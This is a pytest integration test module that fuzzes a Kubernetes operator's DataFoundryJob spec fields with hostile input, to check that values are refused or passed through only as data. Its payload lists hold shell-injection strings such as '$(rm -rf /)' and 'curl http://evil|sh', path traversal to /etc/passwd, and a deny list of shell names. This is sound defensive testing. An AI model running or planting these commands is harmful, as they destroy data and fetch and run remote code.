"""Hostile DataFoundryJobs on the real API server and the real operator.

Every string field of the spec (enumerated from the generated CRD schema, so a new field is
covered the day it is added) gets shell-injection strings, path traversal, template syntax and
1 MiB of text. Each value is either refused at apply time with an error naming the field, or
accepted and then handled as data: the operator does not crash, the child Jobs run the worker in
exec form (no `sh -c`, no shell, fixed args), and the value reaches pods only verbatim, as the
plan ConfigMap's data or an env value.
"""

from __future__ import annotations

import copy
import json
import re
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import requests
import yaml
from kubernetes import client as k8s

from datafoundry.api.meta import GROUP, PLURAL, VERSION
from datafoundry.pipeline import contract
from datafoundry.testing.podrunner import PodRunner
from datafoundry.testing.running_operator import S3_SECRET, Operator, prepare_job_namespace
from datafoundry.testing.testbed import REPO, S3, Kube

pytestmark = pytest.mark.integration

MANIFESTS = REPO / "tests" / "fixtures" / "manifests" / "valid"
PAYLOADS = [
    "$(rm -rf /)",
    "; curl http://x | sh",
    "`reboot`",
    "ok\nrm -rf /",
    "../../etc/passwd",
    "x;curl${IFS}http://evil|sh",
    "$(reboot)",
    "' OR '1'='1",
    "{{ .Values.secret }}",
    "-c",
]
# Appended to a field's valid value: no spaces, so they survive patterns like `s3://bucket/\S*`.
SUFFIXES = ["$(reboot)", ";curl${IFS}x|sh", "/../../etc/passwd"]
HUGE = "A" * (1024 * 1024)
# What a worker container's args may contain: the contract's fixed words and numbers.
ARG_RE = re.compile(r"^(worker|generate|filter|dedup|evaluate|publish|--plan|--round|--records|--shard|\d+|"
                    + re.escape(contract.PLAN_PATH) + ")$")
SHELLS = {"sh", "bash", "/bin/sh", "/bin/bash", "-c", "ash", "dash", "zsh"}

Path_ = tuple[Any, ...]


# ----------------------------------------------------------------------------- the field list
def crd_spec_schema() -> dict[str, Any]:
    crd = yaml.safe_load((REPO / "crds" / "datafoundryjob.yaml").read_text())
    return crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"]  # type: ignore[no-any-return]


def string_fields(schema: dict[str, Any], path: Path_ = ("spec",)) -> Iterator[Path_]:
    """Schema paths of every string (and int-or-string) field; `0` stands for list items, `*` for map values."""
    if schema.get("type") == "string" or schema.get("x-kubernetes-int-or-string"):
        yield path
    for key, sub in (schema.get("properties") or {}).items():
        yield from string_fields(sub, (*path, key))
    if schema.get("type") == "array":
        yield from string_fields(schema["items"], (*path, 0))
    if isinstance(schema.get("additionalProperties"), dict):
        yield from string_fields(schema["additionalProperties"], (*path, "*"))


def bases(s3: S3, prefix: str) -> dict[str, dict[str, Any]]:
    """Valid manifests that between them set every string field, writing to the test bed's S3."""
    def load(path: Path) -> dict[str, Any]:
        doc: dict[str, Any] = yaml.safe_load(path.read_text())
        doc["metadata"].pop("namespace", None)
        return doc

    full = load(MANIFESTS / "full.yaml")
    full["spec"]["generator"].update(shards=1, parallelism=1)
    prefs = load(MANIFESTS / "openai-preference.yaml")
    prefs["spec"]["generator"]["engine"]["apiKeySecretRef"] = {"name": "llm-key", "key": "token"}
    out = {"full": full, "curation": load(MANIFESTS / "curation.yaml"),
           "classification": load(REPO / "examples" / "classification.yaml"), "prefs": prefs,
           "magpie": load(MANIFESTS / "openai-magpie.yaml")}
    for name, doc in out.items():
        # A Kueue queue: child Jobs are created suspended, so they can be inspected without pods that
        # nothing runs here taking the nodes (and being stuck on the Job-tracking finalizer later).
        doc["spec"].setdefault("queueName", "hold")
        output = doc["spec"]["output"]
        output.update(uri=f"s3://{s3.bucket}/{prefix}{name}", endpointURL=s3.endpoint_url)
        output["credentials"] = {"secretRef": {**output.get("credentials", {}).get("secretRef", {}),
                                               "name": S3_SECRET}}
    return out


def _resolve(node: Any, path: Path_, done: Path_ = ()) -> Iterator[Path_]:
    """Concrete paths (list indexes, map keys) in `node` for a schema path; the leaf may be missing."""
    if len(path) == 1:
        key = path[0]
        if key == 0 and isinstance(node, list) and node:
            yield (*done, 0)
        elif key == "*" and isinstance(node, dict) and node:
            yield (*done, next(iter(node)))
        elif isinstance(key, str) and key != "*" and isinstance(node, dict):
            yield (*done, key)
        return
    key, rest = path[0], path[1:]
    if key == 0 and isinstance(node, list):
        for i, item in enumerate(node):
            yield from _resolve(item, rest, (*done, i))
    elif key == "*" and isinstance(node, dict) and node:
        first = next(iter(node))
        yield from _resolve(node[first], rest, (*done, first))
    elif isinstance(key, str) and isinstance(node, dict) and key in node:
        yield from _resolve(node[key], rest, (*done, key))


def get(doc: Any, path: Path_) -> Any:
    for part in path:
        doc = doc[part]
    return doc


def put(doc: Any, path: Path_, value: Any) -> None:
    get(doc, path[:-1])[path[-1]] = value


def api_path(path: Path_) -> str:
    """('spec', 'filters', 8, 'engine', 'endpoint') -> spec.filters[8].engine.endpoint, as the API server writes it."""
    out = ""
    for part in path:
        out += f"[{part}]" if isinstance(part, int) else (f".{part}" if out else str(part))
    return out


@dataclass(frozen=True)
class Target:
    base: str
    path: Path_
    original: Any


def targets(docs: dict[str, dict[str, Any]]) -> list[Target]:
    """One concrete place per string field, preferring a manifest where the field is already set."""
    out = []
    for schema_path in string_fields(crd_spec_schema()):
        found: Target | None = None
        for name, doc in docs.items():
            for concrete in _resolve(doc, schema_path):
                try:
                    original = get(doc, concrete)
                except (KeyError, IndexError):
                    original = None
                if found is None or (found.original is None and original is not None):
                    found = Target(name, concrete, original)
        assert found is not None, f"no valid manifest can hold {schema_path}"
        out.append(found)
    return out


def candidates(target: Target) -> list[tuple[str, str]]:
    """(label, value): every payload as is, and the suffixes appended to the field's valid value."""
    out = [(f"payload{i}", p) for i, p in enumerate(PAYLOADS)]
    if isinstance(target.original, str):
        out += [(f"suffix{i}", target.original + s) for i, s in enumerate(SUFFIXES)]
    return out


# ---------------------------------------------------------------------------- the API server
def dry_run(kube: Kube, namespace: str, doc: dict[str, Any]) -> str | None:
    """None if the API server accepts `doc` (strict field validation, as kubectl apply), else its error."""
    try:
        k8s.CustomObjectsApi(kube.api).create_namespaced_custom_object(
            GROUP, VERSION, namespace, PLURAL, doc, dry_run="All", field_validation="Strict")
    except k8s.ApiException as e:
        return str(e.body)
    return None


@dataclass
class Verdicts:
    accepted: list[tuple[Target, str, str]]
    refused: list[tuple[Target, str, str]]


@pytest.fixture(scope="module")
def verdicts(kube: Kube, crd: None, s3: S3) -> Iterator[tuple[Verdicts, dict[str, dict[str, Any]]]]:
    """Every candidate value in every string field, dry-run against the real API server."""
    ns = f"t-hostile-{uuid.uuid4().hex[:6]}"
    kube.core.create_namespace(k8s.V1Namespace(metadata=k8s.V1ObjectMeta(name=ns)))
    docs = bases(s3, f"tests/{uuid.uuid4().hex[:12]}/")
    for name, doc in docs.items():
        assert dry_run(kube, ns, doc) is None, f"base {name} must be valid"
    v = Verdicts([], [])
    try:
        for target in targets(docs):
            for label, value in candidates(target):
                doc = copy.deepcopy(docs[target.base])
                put(doc, target.path, value)
                error = dry_run(kube, ns, doc)
                (v.accepted if error is None else v.refused).append((target, label, error or value))
        yield v, docs
    finally:
        kube.core.delete_namespace(ns)


def test_every_string_field_is_covered(verdicts: tuple[Verdicts, dict[str, Any]]) -> None:
    v, _ = verdicts
    fields = {api_path(t.path) for t, _, _ in v.accepted + v.refused}
    assert len(fields) == len(list(string_fields(crd_spec_schema()))) >= 60
    for must in ("spec.task.domain", "spec.output.uri", "spec.generator.model", "spec.queueName",
                 "spec.output.credentials.secretRef.name", "spec.input.textField", "spec.generator.image"):
        assert must in fields, must


def test_refused_values_are_refused_naming_the_field(verdicts: tuple[Verdicts, dict[str, Any]]) -> None:
    v, _ = verdicts
    assert v.refused, "patterns and enums must refuse most payloads"
    wrong = [(api_path(t.path), label, err[:300]) for t, label, err in v.refused if api_path(t.path) not in err]
    assert not wrong, wrong
    accepted = sorted({(api_path(t.path), label) for t, label, _ in v.accepted})
    print(f"\naccepted at apply ({len(accepted)}): {accepted}")
    # Identifiers that end up in Kubernetes objects or S3 credentials never take shell syntax.
    for field in ("spec.output.credentials.secretRef.name", "spec.generator.image", "spec.queueName",
                  "spec.priorityClassName", "spec.filters[0].name", "spec.output.region"):
        taken = [value for t, label, value in v.accepted
                 if api_path(t.path) == field and any(m in value for m in ("$", "`", ";", "|", "\n", " "))]
        assert not taken, (field, taken)


def test_a_mebibyte_in_any_string_field_is_refused_naming_the_field(
    kube: Kube, crd: None, namespace: str, verdicts: tuple[Verdicts, dict[str, Any]]
) -> None:
    v, docs = verdicts
    seen: set[Path_] = set()
    for target, _, _ in v.accepted + v.refused:
        if target.path in seen:
            continue
        seen.add(target.path)
        doc = copy.deepcopy(docs[target.base])
        put(doc, target.path, HUGE)
        error = dry_run(kube, namespace, doc)
        assert error is not None, f"{api_path(target.path)} accepted 1 MiB"
        assert api_path(target.path) in error and ("Too long" in error or "Invalid value" in error), error[:400]
    # The name too: the API server's own rule.
    doc = copy.deepcopy(docs["full"])
    doc["metadata"]["name"] = HUGE.lower()
    error = dry_run(kube, namespace, doc)
    assert error is not None and "metadata.name" in error


# ------------------------------------------------------------------------------- the operator
def _status(kube: Kube, ns: str, name: str) -> dict[str, Any]:
    obj = k8s.CustomObjectsApi(kube.api).get_namespaced_custom_object(GROUP, VERSION, ns, PLURAL, name)
    return obj.get("status") or {}  # type: ignore[no-any-return]


def _conditions(status: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {c["type"]: c for c in status.get("conditions") or []}


def test_accepted_values_reach_pods_only_as_data(
    kube: Kube, s3: S3, namespace: str, operator: Operator, verdicts: tuple[Verdicts, dict[str, Any]]
) -> None:
    v, docs = verdicts
    ns = namespace
    prepare_job_namespace(kube, s3, ns)
    log_start = operator.log_path.stat().st_size if operator.log_path.exists() else 0
    try:
        _apply_and_check(kube, ns, operator, v, docs, log_start)
    finally:
        kube.kubectl("delete", "dfj", "--all", "-n", ns, "--wait=false")


def _records_about(log: str, ns: str) -> list[str]:
    """The operator's log records (a timestamped line and what follows it) that mention `ns`."""
    return [r for r in re.split(r"\n(?=\d{4}-\d{2}-\d{2} )", log) if ns in r]


def _apply_and_check(kube: Kube, ns: str, operator: Operator, v: Verdicts, docs: dict[str, Any],
                     log_start: int) -> None:
    # One job per (manifest, candidate): every field that accepted that candidate set at once.
    groups: dict[tuple[str, str], list[tuple[Target, str]]] = {}
    for target, label, value in v.accepted:
        groups.setdefault((target.base, label), []).append((target, value))
    jobs: dict[str, list[tuple[Path_, str]]] = {}
    for (base, label), fields in sorted(groups.items()):
        doc = copy.deepcopy(docs[base])
        name = f"{base}-{label}".lower()
        doc["metadata"]["name"] = name
        for target, value in fields:
            put(doc, target.path, value)
        if dry_run(kube, ns, doc) is not None:  # together they break a cross-field rule: one at a time
            for i, (target, value) in enumerate(fields):
                single = copy.deepcopy(docs[base])
                single["metadata"]["name"] = f"{name}-{i}"
                put(single, target.path, value)
                kube.kubectl("apply", "-n", ns, "-f", "-", input=json.dumps(single))
                jobs[f"{name}-{i}"] = [(target.path, value)]
            continue
        kube.kubectl("apply", "-n", ns, "-f", "-", input=json.dumps(doc))
        jobs[name] = [(t.path, value) for t, value in fields]
    assert len(jobs) >= 10, sorted(jobs)

    def settled() -> bool:
        for name in jobs:
            c = _conditions(_status(kube, ns, name))
            if not ("Accepted" in c or "Failed" in c):
                return False
        return True

    deadline = time.monotonic() + 180
    while not settled():
        assert time.monotonic() < deadline, f"not every job was handled:\n{operator.log_tail()}"
        time.sleep(1)
    time.sleep(3)  # children of the last jobs
    assert operator.proc is not None and operator.proc.poll() is None, operator.log_tail()
    assert requests.get(operator.health_url, timeout=5).status_code == 200
    with operator.log_path.open(errors="replace") as f:
        f.seek(log_start)
        about = _records_about(f.read(), ns)
    bad = [r for r in about if "Traceback" in r or "failed with an exception" in r or "FailedToCreateJob" in r]
    assert not bad, bad[:3]

    children = kube.batch.list_namespaced_job(ns).items
    assert children, "accepted jobs must get child Jobs"
    assert all(j.spec.suspend for j in children) and not kube.core.list_namespaced_pod(ns).items
    for job in children:
        pod = job.spec.template.spec
        for container in pod.containers + (pod.init_containers or []):
            # Exec form: the image's entrypoint, fixed args, never a shell.
            assert container.command is None, (job.metadata.name, container.command)
            assert all(ARG_RE.match(a) for a in container.args), (job.metadata.name, container.args)
            assert not SHELLS & set(container.args)
    by_owner: dict[str, list[k8s.V1Job]] = {}
    for job in children:
        by_owner.setdefault(job.metadata.owner_references[0].name, []).append(job)
    failed = []
    for name, fields in jobs.items():
        status = _status(kube, ns, name)
        c = _conditions(status)
        if c.get("Accepted", {}).get("status") != "True":
            # Refused by the operator (a rule the API server cannot express): Failed, naming the field.
            assert c["Failed"]["status"] == "True" and c["Failed"]["reason"] == "InvalidSpec", status
            assert any(api_path(p).replace("[", ".").split(".")[1] in c["Failed"]["message"]
                       for p, _ in fields), c["Failed"]["message"]
            failed.append(name)
            continue
        assert by_owner.get(name), f"{name} was accepted but got no child Job"
        plan = json.loads(kube.core.read_namespaced_config_map(f"{name}-plan", ns).data["plan.json"])
        for path, value in fields:
            assert get(plan, path) == value, (name, api_path(path))  # verbatim, as data
        values = {value for _, value in fields}
        for job in by_owner.get(name, []):
            container = job.spec.template.spec.containers[0]
            for env in container.env or []:
                if env.value is not None and any(p in env.value for p in ("$(", "`", ";", "..", "{{")):
                    assert env.value in values, (name, env.name, env.value)  # the spec's value, verbatim
            text = json.dumps(kube.api.sanitize_for_serialization(job.metadata))
            assert not any(value in text for value in values if len(value) > 3), (name, text[:500])
    print(f"\n{len(v.accepted)} values accepted, {len(v.refused)} refused at apply; {len(jobs)} jobs, "
          f"{len(failed)} refused by the operator; {len(children)} child Jobs, all exec form")


# ------------------------------------------------------------------ the real workers, end to end


def _wait_done(kube: Kube, ns: str, name: str, op: Operator, timeout: float = 300) -> dict[str, Any]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        status = _status(kube, ns, name)
        if status.get("phase") in ("Succeeded", "Failed"):
            return status
        time.sleep(0.5)
    raise AssertionError(f"{name} did not finish: {_status(kube, ns, name)}\n{op.log_tail()}")


def test_injection_strings_run_as_data_or_fail_naming_the_field(
    kube: Kube, s3: S3, s3_prefix: str, job_namespace: str, operator: Operator, real_pod_runner: PodRunner
) -> None:
    """Curation jobs with the real workers: shell syntax in an object key, the text field, the task's
    domain and the output prefix is only data (the job succeeds and publishes exactly there); an
    input URI that names nothing fails the job with a condition naming spec.input.uris[0]."""
    ns = job_namespace
    weird = "$(reboot);curl${IFS}x|sh"
    key = f"{s3_prefix}in/{weird}.jsonl"
    rows = [{"id": f"r{i}", "text": f"Record {i} about `backticks` and $(substitution); nothing runs here ({i})."}
            for i in range(12)]
    s3.client.put_object(Bucket=s3.bucket, Key=key, Body="".join(json.dumps(r) + "\n" for r in rows).encode())
    output = f"{s3_prefix}out{weird}"

    def job(name: str, uri: str) -> dict[str, Any]:
        return {"apiVersion": f"{GROUP}/{VERSION}", "kind": "DataFoundryJob", "metadata": {"name": name},
                "spec": {"task": {"domain": "; curl http://x | sh `reboot` $(rm -rf /)"},
                         "target": {"records": 10},
                         "input": {"uris": [uri], "format": "jsonl", "textField": "$(rm -rf /)"},
                         "filters": [{"type": "length", "minChars": 10}, {"type": "exactDedup"}],
                         "output": {"uri": f"s3://{s3.bucket}/{output}", "endpointURL": s3.endpoint_url,
                                    "credentials": {"secretRef": {"name": S3_SECRET}}}}}

    kube.kubectl("apply", "-n", ns, "-f", "-", input=json.dumps(job("data", f"s3://{s3.bucket}/{key}")))
    missing = f"s3://{s3.bucket}/{s3_prefix}nothing/$(rm${{IFS}}-rf${{IFS}}/)"
    kube.kubectl("apply", "-n", ns, "-f", "-", input=json.dumps(job("nowhere", missing)))

    status = _wait_done(kube, ns, "data", operator)
    assert status["phase"] == "Succeeded", status
    manifest = json.loads(s3.client.get_object(Bucket=s3.bucket, Key=f"{output}/manifest.json")["Body"].read())
    assert manifest["records"] == 10 and manifest["recipe"]["input"]["textField"] == "$(rm -rf /)"
    card = s3.client.get_object(Bucket=s3.bucket, Key=f"{output}/README.md")["Body"].read().decode()
    assert "; curl http://x | sh `reboot` $(rm -rf /)" in card  # the domain, verbatim, as text

    status = _wait_done(kube, ns, "nowhere", operator)
    failed = _conditions(status)["Failed"]
    assert status["phase"] == "Failed" and failed["reason"] == "BadInput", status
    assert f"spec.input.uris[0] {missing}: not found" in failed["message"], failed["message"]
    # Every worker process got its args as a list; none ran through a shell.
    assert real_pod_runner.runs
    for run in real_pod_runner.runs:
        assert run.args[0] == "worker" and not SHELLS & set(run.args), run.args
    for job in kube.batch.list_namespaced_job(ns).items:
        container = job.spec.template.spec.containers[0]
        assert container.command is None and all(ARG_RE.match(a) for a in container.args), container.args


def test_a_huge_free_form_value_fails_the_job_naming_the_field(
    kube: Kube, s3: S3, s3_prefix: str, job_namespace: str, operator: Operator
) -> None:
    """Seeds and output schemas are free-form (no string bounds in the schema): a
    1.2 MB seed fits in the object (etcd takes 1.5 MB) but not in the plan ConfigMap (1 MiB)."""
    ns = job_namespace
    doc = {"apiVersion": f"{GROUP}/{VERSION}", "kind": "DataFoundryJob", "metadata": {"name": "huge"},
           "spec": {"task": {"domain": "ops", "seeds": {"inline": [
                        {"instruction": "B" * 1_200_000, "response": "ok"}]}},
                    "target": {"records": 10}, "generator": {"model": "org/tiny"},
                    "output": {"uri": f"s3://{s3.bucket}/{s3_prefix}huge", "endpointURL": s3.endpoint_url,
                               "credentials": {"secretRef": {"name": S3_SECRET}}}}}
    k8s.CustomObjectsApi(kube.api).create_namespaced_custom_object(GROUP, VERSION, ns, PLURAL, doc)
    deadline = time.monotonic() + 60
    while _status(kube, ns, "huge").get("phase") != "Failed":
        assert time.monotonic() < deadline, f"{_status(kube, ns, 'huge')}\n{operator.log_tail()}"
        time.sleep(0.5)
    failed = _conditions(_status(kube, ns, "huge"))["Failed"]
    assert failed["reason"] == "InvalidSpec", failed
    assert "spec.task.seeds.inline[0].instruction" in failed["message"], failed["message"]
    assert "spec.task.seeds.uri" in failed["message"]  # what to do instead
    assert not kube.batch.list_namespaced_job(ns).items
    assert operator.proc is not None and operator.proc.poll() is None
    assert requests.get(operator.health_url, timeout=5).status_code == 200


def test_a_child_the_api_server_refuses_fails_the_job_naming_the_field(
    kube: Kube, s3: S3, s3_prefix: str, job_namespace: str, operator: Operator
) -> None:
    """Quantities are not compared by the schema: a memory request above its limit is accepted in the
    DataFoundryJob and refused in the Job built from it. The job fails at once, naming the field."""
    ns = job_namespace
    doc = {"apiVersion": f"{GROUP}/{VERSION}", "kind": "DataFoundryJob", "metadata": {"name": "upside-down"},
           "spec": {"task": {"domain": "ops", "seeds": {"inline": [{"instruction": "a", "response": "b"}]}},
                    "target": {"records": 10},
                    "generator": {"model": "org/tiny", "resources": {"requests": {"memory": "2Gi"},
                                                                     "limits": {"memory": "1Gi"}}},
                    "output": {"uri": f"s3://{s3.bucket}/{s3_prefix}upside", "endpointURL": s3.endpoint_url,
                               "credentials": {"secretRef": {"name": S3_SECRET}}}}}
    kube.kubectl("apply", "-n", ns, "-f", "-", input=json.dumps(doc))
    deadline = time.monotonic() + 60
    while _status(kube, ns, "upside-down").get("phase") != "Failed":
        assert time.monotonic() < deadline, f"{_status(kube, ns, 'upside-down')}\n{operator.log_tail()}"
        time.sleep(0.5)
    failed = _conditions(_status(kube, ns, "upside-down"))["Failed"]
    assert failed["reason"] == "FailedToCreateJob", failed
    assert "must be less than or equal to memory limit" in failed["message"], failed["message"]
    assert "(check spec.generator.resources)" in failed["message"]
    assert not kube.batch.list_namespaced_job(ns).items
    time.sleep(3)  # a finished job is not retried: no further attempts in the log
    attempts = [r for r in _records_about(operator.log_path.read_text(errors="replace"), ns) if "upside-down" in r]
    assert not [r for r in attempts if "failed with an exception" in r], attempts[-3:]
